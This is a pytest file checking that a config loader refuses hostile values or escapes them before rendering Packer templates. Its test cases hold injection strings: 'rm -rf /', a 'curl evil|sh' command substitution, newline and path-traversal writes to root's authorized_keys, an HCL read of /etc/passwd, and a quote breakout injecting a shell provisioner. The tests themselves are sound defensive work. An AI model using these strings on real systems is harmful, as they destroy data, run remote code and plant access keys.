"""Hostile strings in a config are refused before anything is rendered or run.

Each case proves that a value which would be dangerous in a shell, a path or a Packer template
is stopped at validation with a message naming its place."""
from __future__ import annotations

from pathlib import Path

import pytest

from vendor.config.loader import load_config
from vendor.config.source import SourceError

MINIMAL = (Path(__file__).parent / "minimal.yaml").read_text()

CASES = [
    ("shell metacharacters in a name", ("customer: shop", 'customer: "shop;rm -rf /"'), "customer"),
    ("command substitution in a package", ("    id: ami-0123456789abcdef0", '    id: ami-0123456789abcdef0\n  packages: ["nginx$(curl evil|sh)"]'),
     "image/packages/0"),
    ("newline smuggled into a file destination", ("    id: ami-0123456789abcdef0",
                                                  '    id: ami-0123456789abcdef0\n  files:\n    - source: minimal.yaml\n      destination: "/etc/x\\n0:/root/.ssh/authorized_keys"'),
     "image/files/0/destination"),
    ("path traversal in a file destination", ("    id: ami-0123456789abcdef0",
                                              "    id: ami-0123456789abcdef0\n  files:\n    - source: minimal.yaml\n      destination: /var/www/../../root/.ssh/authorized_keys"),
     "image/files/0/destination"),
    ("HCL interpolation in a health path", ("    path: /health", '    path: "/${file(\\"/etc/passwd\\")}"'), "routing/health_check/path"),
    ("quote breaking out of an HCL string in a tag", ("region: eu-west-1", 'region: eu-west-1\ntags:\n  Team: "a\\" } provisioner \\"shell\\" { inline = [\\"id"'), None),
]


@pytest.mark.parametrize("name,edit,path", CASES, ids=[c[0] for c in CASES])
def test_hostile_value(tmp_path, name, edit, path):
    """Shell metacharacters, command substitution, smuggled newlines, path traversal and HCL injection in config values are refused naming their path (free-text tags come out as one escaped HCL string)."""
    (tmp_path / "minimal.yaml").write_text(MINIMAL)
    config = tmp_path / "c.yaml"
    assert edit[0] in MINIMAL
    config.write_text(MINIMAL.replace(edit[0], edit[1], 1))
    if path is None:
        # tag values are free text: they must come out as one escaped HCL string, never as syntax
        from vendor.render.packer import render_packer
        import hcl2
        cf = load_config(config)
        template = next(o for o in render_packer(cf, "c.yaml") if o.path.endswith(".pkr.hcl") and "packer-" in o.path)
        parsed = hcl2.loads(template.content)
        assert parsed["locals"][0]["tags"]["Team"] == '"a\\" } provisioner \\"shell\\" { inline = [\\"id"'
        assert len(parsed["build"][0]["provisioner"]) == 3  # prepare, provision, agent: nothing injected
        return
    with pytest.raises(SourceError) as refused:
        load_config(config)
    assert [p.path for p in refused.value.problems] == [path]
